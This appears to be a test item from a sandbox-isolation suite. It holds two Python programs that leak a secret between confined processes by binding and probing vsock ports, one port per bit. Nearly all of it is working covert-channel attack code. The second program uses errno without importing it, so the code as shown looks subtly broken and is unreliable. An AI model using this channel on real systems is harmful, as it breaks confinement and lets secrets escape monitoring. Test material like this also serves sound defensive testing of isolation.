# id: traces/vsock
# class: Lateral
# title: Take ports of the virtual machine
# intent: The first program binds the ports of its bits, which are one set for the whole machine
# success: The first one's secret is in the second one's answer
# source: vsock(7); isolate 2.6, which closed it
# evidence: pair together
# host: confined
# seconds: 20
import socket
import time

bits = "".join(f"{int(digit, 16):04b}" for digit in SECRET)
base = 1 << 30 | (NUMBER & 0xFFFFF) << 8
held = []
try:
    for at, bit in enumerate(bits + "1"):  # the last one says that all are there
        if bit == "1":
            held.append(socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
            held[-1].bind((socket.VMADDR_CID_ANY, base + at))
    finished()
    time.sleep(18)  # until it is cancelled
except OSError as error:
    stopped(error)

# --- second program ---
import socket
import time


def is_taken(port):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as probe:
        try:
            probe.bind((socket.VMADDR_CID_ANY, port))
        except OSError as error:
            if error.errno != errno.EADDRINUSE:
                raise
            return True
        return False


base = 1 << 30 | (NUMBER & 0xFFFFF) << 8
end = time.monotonic() + 8
try:
    while not is_taken(base + 128) and time.monotonic() < end:
        time.sleep(0.2)
    bits = "".join("1" if is_taken(base + at) else "0" for at in range(128))
    print(f"{int(bits, 2):032x}")
    finished()
except OSError as error:
    stopped(error)
